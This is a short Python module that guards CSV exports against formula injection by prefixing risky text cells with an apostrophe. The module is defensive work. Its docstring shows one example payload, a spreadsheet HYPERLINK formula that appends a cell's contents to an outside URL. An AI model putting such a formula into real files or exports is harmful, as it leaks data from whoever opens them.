"""CSV files the platform hands out are opened in spreadsheets, where a cell starting with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is run as a formula.
Subject names, messages and remarks come from submitted files and self-declarations, so a
name like ``=HYPERLINK("http://…?"&A1)`` would run on the officer's machine when the
download is opened (CSV injection, OWASP). Such a text cell is written with a leading
apostrophe, which spreadsheets show as text and hide; numbers are written as they are."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def formula_safe(value: object) -> object:
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose text cells cannot start a formula."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([formula_safe(cell) for cell in row])
